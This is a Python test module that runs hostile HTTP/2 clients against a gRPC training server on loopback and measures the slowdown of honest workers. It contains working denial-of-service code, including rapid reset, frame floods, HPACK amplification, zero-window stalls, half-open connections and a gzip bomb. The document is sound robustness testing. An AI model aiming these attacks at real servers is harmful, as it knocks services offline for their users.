"""Hostile HTTP/2 peers, and a harness that measures what they cost honest training.

The attacks speak raw HTTP/2 (hand-made frames, HPACK by the ``hpack`` library), each in its
own process as in reality, so that the attacker's CPU is never billed to the server's event
loop: ``python -m tests.server.adversary ATTACK PORT SECONDS``. The server runs in its own
process too (``python -m evochi.server``); the honest fleet (4 raw-stub workers, population
64) trains from a thread of the calling process. Used by tests/server/test_adversarial.py
(bounds asserted) and benchmarks/adversarial.py (numbers printed).

Honest workers spend EVALUATE_DELAY per evaluate task, as a real evaluation does: honest
progress is then bounded by the round trips through the server, not by the CPU the test
machine has left, and a ratio of epochs/s measures what the attack does to the server.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

import hpack

REPO = Path(__file__).resolve().parents[2]
SERVICE = "/evochi.v1.EvochiService/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE = range(9)
CONTINUATION = 9
END_STREAM = 0x1
END_HEADERS = 0x4
SUBSCRIBE_REQUEST = b"\x08\x01"  # SubscribeRequest(cores=1)

POPULATION = 64
WORKERS = 4
EVALUATE_DELAY = 0.04


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream_id) + payload


def grpc_message(body: bytes, compressed: bool = False) -> bytes:
    return bytes((1 if compressed else 0,)) + len(body).to_bytes(4, "big") + body


# --------------------------------------------------------------------------- attacker side


class Conn:
    """One hostile connection: frames out, and everything the server says read and dropped
    (unless ``read=False``: a peer that never reads)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                 read: bool) -> None:  # fmt: skip
        self.reader, self.writer = reader, writer
        self.encoder = hpack.Encoder()
        self.next_id = 1
        self.closed = False
        self._reader = asyncio.get_running_loop().create_task(self._drop()) if read else None

    @classmethod
    async def open(cls, port: int, settings: bytes = b"", read: bool = True) -> Conn:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        conn = cls(reader, writer, read)
        conn.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        return conn

    async def _drop(self) -> None:
        with contextlib.suppress(ConnectionError, OSError):
            while await self.reader.read(1 << 16):
                pass
        self.closed = True

    def stream(self) -> int:
        sid = self.next_id
        self.next_id += 2
        return sid

    def headers(self, path: str, extra: list[tuple[str, str]] | None = None) -> bytes:
        return self.encoder.encode(
            [(":method", "POST"), (":scheme", "http"), (":path", path),
             (":authority", "localhost"), ("content-type", "application/grpc"),
             ("te", "trailers"), *(extra or [])]
        )  # fmt: skip

    def call(self, path: str, body: bytes | None, end: bool = True,
             extra: list[tuple[str, str]] | None = None) -> tuple[int, bytes]:  # fmt: skip
        sid = self.stream()
        out = frame(HEADERS, END_HEADERS | (END_STREAM if end and body is None else 0), sid,
                    self.headers(path, extra))  # fmt: skip
        if body is not None:
            out += frame(DATA, END_STREAM if end else 0, sid, body)
        return sid, out

    async def send(self, data: bytes) -> None:
        if self.closed:
            raise ConnectionError("closed by the server")
        self.writer.write(data)
        await self.writer.drain()

    def close(self) -> None:
        if self._reader is not None:
            self._reader.cancel()
        self.writer.transport.abort()


Attack = Callable[[int, float], Awaitable[None]]


async def _reconnecting(port: int, deadline: float, body: Callable[[Conn], Awaitable[None]],
                        settings: bytes = b"", read: bool = True) -> None:  # fmt: skip
    """Run ``body`` on a fresh connection until the deadline, reconnecting whenever the
    server closes one (a GOAWAY is no reason for an attacker to stop)."""
    while time.monotonic() < deadline:
        try:
            conn = await Conn.open(port, settings, read)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        try:
            await body(conn)
        except (ConnectionError, OSError):
            pass
        finally:
            conn.close()


def _until(deadline: float) -> Callable[[Conn], bool]:
    return lambda conn: time.monotonic() < deadline and not conn.closed


async def rapid_reset(port: int, deadline: float) -> None:
    """CVE-2023-44487 on Subscribe: HEADERS + DATA + RST_STREAM, over and over."""
    body = grpc_message(SUBSCRIBE_REQUEST)

    async def run(conn: Conn) -> None:
        while _until(deadline)(conn):
            batch = []
            for _ in range(50):
                sid, out = conn.call(SERVICE + "Subscribe", body)
                batch.append(out + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
            await conn.send(b"".join(batch))

    await _reconnecting(port, deadline, run)


async def settings_entries(port: int, deadline: float) -> None:
    """Many unfinished streams, then SETTINGS frames of thousands of entries, slowly."""
    entries = b"".join(
        struct.pack(">HI", 4, 65_535 + (i % 2)) for i in range(2500)
    )  # INITIAL_WINDOW_SIZE, alternating: every entry changes every stream's window

    async def run(conn: Conn) -> None:
        batch = b""
        for _ in range(100):
            batch += conn.call(SERVICE + "Subscribe", b"\x00\x00", end=False)[1]
        await conn.send(batch)
        while _until(deadline)(conn):
            await conn.send(frame(SETTINGS, 0, 0, entries))
            await asyncio.sleep(0.01)

    await _reconnecting(port, deadline, run)


async def zero_window(port: int, deadline: float) -> None:
    """Subscribe streams whose answers cannot flow (window 0), then a WINDOW_UPDATE flood."""
    zero = struct.pack(">HI", 4, 0)
    body = grpc_message(SUBSCRIBE_REQUEST)

    async def run(conn: Conn) -> None:
        batch = b""
        for _ in range(100):
            batch += conn.call(SERVICE + "Subscribe", body)[1]
        await conn.send(batch)
        update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200
        while _until(deadline)(conn):
            await conn.send(update)

    await _reconnecting(port, deadline, run, settings=zero)


async def zero_window_quiet(port: int, deadline: float) -> None:
    """Subscribe streams whose answers cannot flow (window 0), held open without any
    flood, from a new connection every half second: fake workers that never read their
    hello, on connections that break no HTTP/2 rule."""
    zero = struct.pack(">HI", 4, 0)
    body = grpc_message(SUBSCRIBE_REQUEST)
    held: list[Conn] = []
    try:
        while time.monotonic() < deadline:
            try:
                conn = await Conn.open(port, zero)
            except OSError:
                await asyncio.sleep(0.01)
                continue
            held.append(conn)
            with contextlib.suppress(ConnectionError, OSError):
                await conn.send(
                    b"".join(conn.call(SERVICE + "Subscribe", body)[1] for _ in range(100))
                )
            await asyncio.sleep(min(0.5, max(0.0, deadline - time.monotonic())))
    finally:
        for conn in held:
            conn.close()


async def unread_unknown_method(port: int, deadline: float) -> None:
    """4 connections calling a method that does not exist, never reading the answers."""

    async def run(conn: Conn) -> None:
        while _until(deadline)(conn):
            batch = b"".join(conn.call("/no.Such/Method", grpc_message(b""))[1] for _ in range(50))
            try:
                await asyncio.wait_for(conn.send(batch), 0.5)
            except TimeoutError:
                await asyncio.sleep(0.05)  # the server stopped reading us: keep it stuffed

    await asyncio.gather(*(_reconnecting(port, deadline, run, read=False) for _ in range(4)))


def _flood(make: Callable[[Conn], bytes], setup: Callable[[Conn], bytes] | None = None) -> Attack:
    async def attack(port: int, deadline: float) -> None:
        async def run(conn: Conn) -> None:
            if setup is not None:
                await conn.send(setup(conn))
            while _until(deadline)(conn):
                await conn.send(make(conn))

        await _reconnecting(port, deadline, run)

    return attack


def _open_stream(conn: Conn) -> bytes:
    """A Subscribe call left open (its request never ends), for per-stream frames."""
    return conn.call(SERVICE + "Subscribe", None, end=False)[1]


def _big_entry(conn: Conn) -> bytes:
    # One 4000-byte header entered into the HPACK table (literal with incremental indexing,
    # new name); the header blocks that follow are nothing but references to it (index 62).
    big = b"\x40\x01x\x7f" + _hpack_varint(4000 - 127) + b"v" * 4000
    return frame(HEADERS, END_HEADERS | END_STREAM, conn.stream(), big)


def _hpack_indexed(conn: Conn) -> bytes:
    # 15 references inflate to 60 KiB, just under the server's header-list limit.
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, conn.stream(), b"\xbe" * 15) for _ in range(100)
    )


def _hpack_varint(value: int) -> bytes:
    out = bytearray()
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _headers_unended(conn: Conn) -> bytes:
    return frame(HEADERS, 0, conn.stream(), conn.headers("/no.Such/Method"))


def _continuation(conn: Conn) -> bytes:
    return frame(CONTINUATION, 0, conn.next_id - 2, b"") * 500


FLOODS: dict[str, Attack] = {
    "flood_settings": _flood(lambda c: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500),
    "flood_ping": _flood(lambda c: frame(PING, 0, 0, b"attacker") * 500),
    "flood_priority": _flood(lambda c: frame(PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10") * 500),
    "flood_empty_data": _flood(lambda c: frame(DATA, 0, 1, b"") * 500, _open_stream),
    "flood_window_update": _flood(
        lambda c: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 500, _open_stream
    ),
    "flood_unknown_frame": _flood(lambda c: frame(0xFA, 0, 0, b"????") * 500),
    "flood_hpack_indexed": _flood(_hpack_indexed, _big_entry),
    "flood_continuation": _flood(_continuation, _headers_unended),
}


async def half_open(port: int, deadline: float) -> None:
    """64 connections, each holding: Subscribe bodies without END_STREAM, distinct header
    blocks (filling the decoded-header cache), and a frame one byte short of its end."""
    body = b"\x00" * 16_000

    async def hold(conn: Conn) -> None:
        out = b""
        for _ in range(100):
            out += conn.call(SERVICE + "Subscribe", body, end=False)[1]
        for i in range(200):  # header blocks the server may cache, each one different
            extra = [("x-junk", f"{i}-{random.random()}")]
            # Never indexed: the server's HPACK table stays as it was, so it may cache them.
            block = hpack.Encoder().encode(
                [hpack.NeverIndexedHeaderTuple(*h) for h in [*_BASE, *extra]]
            )
            out += frame(HEADERS, END_HEADERS | END_STREAM, conn.stream(), block)
        big = 60_000
        out += frame(DATA, 0, 1, b"\x00" * big)[:-1]  # the last byte never comes
        await conn.send(out)
        while _until(deadline)(conn):
            await asyncio.sleep(0.05)

    await asyncio.gather(*(_reconnecting(port, deadline, hold) for _ in range(64)))


_BASE = [(":method", "POST"), (":scheme", "http"), (":path", "/no.Such/Method"),
         (":authority", "localhost"), ("content-type", "application/grpc")]  # fmt: skip


async def gzip_bomb(port: int, deadline: float) -> None:
    """A 64 KiB gzip request that inflates to 64 MiB, over and over."""
    bomb = grpc_message(gzip.compress(b"\x00" * (64 << 20), 9), compressed=True)
    chunks = [bomb[i : i + 16_000] for i in range(0, len(bomb), 16_000)]

    async def run(conn: Conn) -> None:
        while _until(deadline)(conn):
            sid = conn.stream()
            block = conn.headers(SERVICE + "Subscribe", [("grpc-encoding", "gzip")])
            out = frame(HEADERS, END_HEADERS, sid, block)
            for i, chunk in enumerate(chunks):
                out += frame(DATA, END_STREAM if i == len(chunks) - 1 else 0, sid, chunk)
            await conn.send(out)
            await asyncio.sleep(0.005)

    await asyncio.gather(*(_reconnecting(port, deadline, run) for _ in range(2)))


ATTACKS: dict[str, Attack] = {
    "rapid_reset": rapid_reset,
    "settings_entries": settings_entries,
    "zero_window": zero_window,
    "zero_window_quiet": zero_window_quiet,
    "unread_unknown_method": unread_unknown_method,
    **FLOODS,
    "half_open": half_open,
    "gzip_bomb": gzip_bomb,
}


def attacker_main(argv: list[str]) -> None:
    name, port, seconds = argv[0], int(argv[1]), float(argv[2])
    # A real attacker floods from its own machine: on the test machine it gets the CPU that
    # the server and the honest workers leave, never theirs.
    os.nice(19)
    print("started", flush=True)
    asyncio.run(ATTACKS[name](port, time.monotonic() + seconds))


# --------------------------------------------------------------------------- honest side


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class ServerProcess:
    """``evochi-server`` in its own process, on a free loopback port."""

    def __init__(self, transport: str) -> None:
        self.transport = transport
        self.port = free_port()
        env = {k: v for k, v in os.environ.items() if not k.startswith("EVOCHI_")}
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "evochi.server", "--host", "127.0.0.1",
             "--port", str(self.port), "--population-size", str(POPULATION),
             "--max-epochs", "0", "--worker-timeout", "10", "--transport", transport,
             "--log-level", "warning"],
            cwd=REPO, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        deadline = time.monotonic() + 30
        while True:
            if self.proc.poll() is not None:
                raise RuntimeError(f"the server exited: {self.proc.stderr.read()}")  # type: ignore[union-attr]
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", self.port)) == 0:
                    break
            if time.monotonic() > deadline:
                raise RuntimeError("the server did not listen")
            time.sleep(0.05)

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.port}"

    def rss_mb(self) -> float:
        with open(f"/proc/{self.proc.pid}/status") as fh:
            for line in fh:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0.0

    def cpu_s(self) -> float:
        """User + system CPU seconds the server has used so far."""
        with open(f"/proc/{self.proc.pid}/stat") as fh:
            fields = fh.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


@dataclass
class Fleet:
    """WORKERS honest raw-stub workers training from a thread with its own event loop."""

    address: str
    epochs: list[float] = field(default_factory=list)  # when each epoch's optimize arrived
    disconnects: int = 0
    errors: list[str] = field(default_factory=list)
    _seen: set[int] = field(default_factory=set)

    def start(self) -> None:
        ready = threading.Event()
        self._ready = ready
        self._thread = threading.Thread(target=self._run, daemon=True, name="honest-fleet")
        self._thread.start()
        if not ready.wait(60):
            raise RuntimeError("the honest fleet did not start training")

    def _run(self) -> None:
        asyncio.run(self._main())

    async def _main(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._stop = asyncio.Event()
        tasks = [asyncio.create_task(self._worker()) for _ in range(WORKERS)]
        await self._stop.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _worker(self) -> None:
        import grpc

        from evochi.v1 import evochi_pb2 as pb
        from tests.server.helpers import StubWorker

        while not self._stop.is_set():
            # One evaluate task per worker per epoch: the core sizes tasks by cores.
            worker = StubWorker(self.address, cores=POPULATION // WORKERS)
            try:
                await worker.subscribe()
                worker.start_heartbeats()
                while True:
                    event = await worker.read(None)
                    if event is grpc.aio.EOF:
                        raise ConnectionError("the stream ended")
                    kind = event.type
                    if kind == pb.EVENT_TYPE_INITIALIZE:
                        await worker.finish_initialization(event.initialize.task_id, b"s")
                    elif kind == pb.EVENT_TYPE_EVALUATE:
                        await asyncio.sleep(EVALUATE_DELAY)
                        await worker.evaluate(event, lambda epoch, member: float(member))
                    elif kind == pb.EVENT_TYPE_OPTIMIZE:
                        epoch = event.optimize.epoch
                        if epoch not in self._seen:
                            self._seen.add(epoch)
                            self.epochs.append(time.monotonic())
                            if len(self.epochs) >= 20:
                                self._ready.set()
                        await worker.finish_optimization(event.optimize.task_id)
                    elif kind == pb.EVENT_TYPE_SHARE_STATE:
                        ss = event.share_state
                        await worker.finish_share_state(ss.task_id, b"s")
            except asyncio.CancelledError:
                await worker.close()
                raise
            except Exception as err:  # a disconnected honest worker: what must not happen
                self.disconnects += 1
                self.errors.append(f"{type(err).__name__}: {err}"[:300])
                await asyncio.sleep(0.2)
            await worker.close()

    def rate(self, start: float, end: float) -> float:
        n = sum(1 for t in self.epochs if start <= t < end)
        return n / (end - start)

    def stop(self) -> None:
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(15)


@dataclass
class Result:
    transport: str
    attack: str
    baseline_eps: float
    during_ratio: float
    after_ratio: float
    after_seconds: float  # when the after ratio was first reached (or the 5 s limit)
    disconnects: int
    server_rss_mb: float
    server_cpu: float  # CPU seconds per second of the server during the attack
    errors: list[str]

    def line(self) -> str:
        return (
            f"adversarial transport={self.transport} attack={self.attack} "
            f"baseline_eps={self.baseline_eps:.1f} during_ratio={self.during_ratio:.2f} "
            f"after_ratio={self.after_ratio:.2f} disconnects={self.disconnects} "
            f"server_rss_mb={self.server_rss_mb:.0f} server_cpu={self.server_cpu:.2f}"
        )


BASELINE_S = 2.5
ATTACK_S = 2.5
SETTLE_S = 0.5  # the attack ramps up (process start, connections) before it is measured
AFTER_WINDOW_S = 2.0
AFTER_LIMIT_S = 5.0


def measure(server: ServerProcess, fleet: Fleet, attack: str) -> Result:
    """Baseline, attack, recovery: epochs/s of the honest fleet in each, as ratios."""
    t0 = time.monotonic()
    time.sleep(BASELINE_S)
    baseline = fleet.rate(t0, t0 + BASELINE_S)
    disconnects = fleet.disconnects
    errors = len(fleet.errors)
    attacker = subprocess.Popen(
        [sys.executable, "-m", "tests.server.adversary", attack, str(server.port), str(ATTACK_S)],
        cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert attacker.stdout is not None
    if attacker.stdout.readline().strip() != "started":
        raise RuntimeError(f"the attacker did not start: {attacker.communicate()[1]}")
    started = time.monotonic()
    cpu = server.cpu_s()
    rss = server.rss_mb()
    while attacker.poll() is None and time.monotonic() < started + ATTACK_S + 10:
        rss = max(rss, server.rss_mb())
        time.sleep(0.1)
    if attacker.poll() is None:
        attacker.kill()
    attacker.wait()
    ended = time.monotonic()
    cpu = (server.cpu_s() - cpu) / (ended - started)
    during = fleet.rate(started + SETTLE_S, started + ATTACK_S)
    # Recovery: the best window of AFTER_WINDOW_S that ends within AFTER_LIMIT_S.
    after, after_at = 0.0, AFTER_LIMIT_S
    while True:
        now = time.monotonic()
        rss = max(rss, server.rss_mb())
        end = min(now, ended + AFTER_LIMIT_S)
        if end - ended >= AFTER_WINDOW_S:
            ratio = fleet.rate(end - AFTER_WINDOW_S, end) / baseline if baseline else 0.0
            if ratio > after:
                after, after_at = ratio, end - ended
            if after >= 0.9 or end >= ended + AFTER_LIMIT_S:
                break
        time.sleep(0.1)
    return Result(
        transport=server.transport,
        attack=attack,
        baseline_eps=baseline,
        during_ratio=during / baseline if baseline else 0.0,
        after_ratio=after,
        after_seconds=after_at,
        disconnects=fleet.disconnects - disconnects,
        server_rss_mb=rss,
        server_cpu=cpu,
        errors=fleet.errors[errors:],
    )


if __name__ == "__main__":
    attacker_main(sys.argv[1:])
